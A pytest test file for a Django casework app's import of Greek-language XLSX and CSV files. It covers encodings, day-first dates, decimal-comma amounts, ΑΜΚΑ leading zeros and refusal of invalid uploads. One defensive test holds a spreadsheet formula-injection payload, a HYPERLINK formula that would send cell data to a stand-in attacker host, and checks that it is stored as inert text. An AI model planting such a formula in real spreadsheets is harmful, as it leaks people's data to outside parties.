"""What a coordinator uploads: XLSX and CSV in UTF-8 or Windows-1253, Greek dates and amounts,
ΑΜΚΑ that Excel kept as a number; and every file that cannot be imported, refused with a sentence
and nothing kept."""

import datetime
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook

from casework.imports import values
from casework.models import ImportJob, Person
from casework.services import imports

from .files import HEADER, csv_bytes, person_row, upload, xlsx_bytes
from .helpers import imported, previewed

BORN = datetime.date(1980, 12, 31)


@pytest.fixture
def centre(in_centre_a):
    return in_centre_a


def refusal(data: bytes, coordinator, name: str = "file.xlsx") -> ValidationError:
    before = ImportJob.objects.count()
    with pytest.raises(ValidationError) as refused:
        imports.import_upload(by=coordinator, kind="people", upload=upload(data, name))
    assert ImportJob.objects.count() == before
    return refused.value


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1253"])
def test_a_csv_in_utf8_or_windows_1253_is_read_with_its_greek_names(centre, coordinator, encoding):
    data = csv_bytes(HEADER, [person_row("Αλεξίου", "Ιωάννα", BORN)], encoding=encoding)

    job = imported(data, by=coordinator, name="mitroo.csv")

    assert job.status == ImportJob.Status.DONE
    assert Person.objects.filter(last_name="Αλεξίου", first_name="Ιωάννα").exists()


def test_a_comma_separated_csv_is_read_as_well(centre, coordinator):
    data = csv_bytes(HEADER, [person_row("Αλεξίου", "Ιωάννα", BORN)], delimiter=",")

    assert previewed(data, by=coordinator, name="m.csv").preview["counts"]["create"] == 1


def test_an_amka_excel_stored_as_a_number_gets_its_leading_zero_back(centre, coordinator):
    row = person_row("Μαρκάκη", "Ελένη", datetime.date(2001, 2, 3))  # ΑΜΚΑ 030201…: starts with 0
    amka = row[3]
    row[3] = int(amka)
    row[2] = datetime.datetime(2001, 2, 3)  # a real date cell

    imported(xlsx_bytes(HEADER, [row]), by=coordinator)

    assert Person.objects.get(last_name="Μαρκάκη").amka == amka


def test_a_formula_in_a_name_is_stored_as_the_text_it_is(centre, coordinator):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Πατήστε")'
    imported(xlsx_bytes(HEADER, [[formula, *person_row("Χ", "Ψ", BORN)[1:]]]), by=coordinator)

    assert Person.objects.filter(last_name=formula).exists()


def test_the_errors_file_writes_a_formula_back_as_text(centre, coordinator):
    from openpyxl import load_workbook

    formula = "=1+1"
    row = [formula, "Όνομα", "31/12/1980", "12345678901", "", "", ""]  # bad ΑΜΚΑ: refused
    job = imported(xlsx_bytes(HEADER, [row, person_row("Α", "Β", BORN)]), by=coordinator, skip_refused=True)

    with job.errors_file.open("rb") as handle:
        cell = load_workbook(handle).worksheets[0]["B2"]
    assert cell.data_type == "s" and cell.value == "'=1+1"


@pytest.mark.parametrize(("cell", "expected"), [
    ("31/12/1980", datetime.date(1980, 12, 31)),
    ("31-12-80", datetime.date(1980, 12, 31)),
    ("1.2.1999", datetime.date(1999, 2, 1)),
    ("05-06-07", datetime.date(2007, 6, 5)),
    ("1980-12-31", datetime.date(1980, 12, 31)),
    (datetime.datetime(1980, 12, 31, 0, 0), datetime.date(1980, 12, 31)),
])
def test_greek_dates_are_understood_day_first(cell, expected):
    assert values.date(cell) == expected


def test_a_two_digit_year_never_lands_in_the_future():
    assert values.date("01-01-50") == datetime.date(1950, 1, 1)


@pytest.mark.parametrize(("cell", "expected"), [
    ("1.200,50", Decimal("1200.50")), ("216,00", Decimal("216.00")), ("€ 80", Decimal("80.00")),
    (108.5, Decimal("108.50")), ("1200.5", Decimal("1200.50")),
])
def test_amounts_with_a_decimal_comma_are_understood(cell, expected):
    assert values.amount(cell) == expected


def test_a_date_that_is_not_one_is_refused_with_the_row_and_a_greek_message(centre, coordinator):
    row = person_row("Α", "Β", BORN)
    row[2] = "τέλη του '80"

    job = previewed(xlsx_bytes(HEADER, [row]), by=coordinator)

    [refused] = job.preview["rows"]
    assert refused["row"] == 2
    assert "δεν διαβάζεται" in refused["errors"]["Ημερομηνία γέννησης"][0]


def test_a_file_that_is_not_a_spreadsheet_is_refused(centre, coordinator):
    error = refusal(b"%PDF-1.7 \x00\x01 binary", coordinator, "scan.pdf")
    assert error.error_dict["file"][0].code == "not_spreadsheet"


def test_a_broken_xlsx_is_refused(centre, coordinator):
    error = refusal(b"PK\x03\x04 not really a zip", coordinator)
    assert error.error_dict["file"][0].code == "not_spreadsheet"


def test_an_old_xls_is_refused_with_how_to_save_it(centre, coordinator):
    error = refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, coordinator, "old.xls")
    assert ".xlsx" in error.messages[0]


def test_an_empty_file_is_refused(centre, coordinator):
    assert refusal(b"", coordinator, "empty.csv").error_dict["file"][0].code == "empty"


def test_an_empty_sheet_is_refused(centre, coordinator):
    book = Workbook()
    import io

    out = io.BytesIO()
    book.save(out)
    assert refusal(out.getvalue(), coordinator).error_dict["file"][0].code == "empty"


def test_a_sheet_without_a_header_row_is_refused(centre, coordinator):
    data = xlsx_bytes(person_row("Α", "Β", BORN), [person_row("Γ", "Δ", BORN)])
    assert refusal(data, coordinator).error_dict["file"][0].code == "no_header"


def test_a_header_without_rows_is_refused(centre, coordinator):
    assert refusal(xlsx_bytes(HEADER, []), coordinator).error_dict["file"][0].code == "no_rows"


def test_a_file_over_the_limit_is_refused_before_it_is_read(centre, coordinator, settings):
    settings.IMPORT_MAX_BYTES = 20 * 1024 * 1024
    big = upload(b"a;b\n" + b"x;y\n" * (50 * 1024 * 1024 // 4), "big.csv")

    with pytest.raises(ValidationError) as refused:
        imports.import_upload(by=coordinator, kind="people", upload=big)

    assert refused.value.error_dict["file"][0].code == "too_large"
    assert "20 MB" in refused.value.messages[0]


def test_a_mapping_without_the_names_is_refused(centre, coordinator):
    job = imports.import_upload(by=coordinator, kind="people", upload=upload(xlsx_bytes(HEADER, [
        person_row("Α", "Β", BORN)])))

    with pytest.raises(ValidationError) as refused:
        imports.import_map(job=job, by=coordinator, mapping={"ΑΜΚΑ": "amka"})

    assert "Επώνυμο" in refused.value.messages[0]


def test_the_mapping_is_remembered_for_the_next_file_of_the_kind(centre, coordinator):
    header = ["Επ.", "Ον.", "Γεν."]
    rows = [["Α", "Β", "31/12/1980"]]
    mapping = {"Επ.": "last_name", "Ον.": "first_name", "Γεν.": "birth_date"}
    previewed(xlsx_bytes(header, rows), by=coordinator, mapping=mapping)

    job = imports.import_upload(by=coordinator, kind="people", upload=upload(xlsx_bytes(header, rows)))

    assert job.mapping == mapping
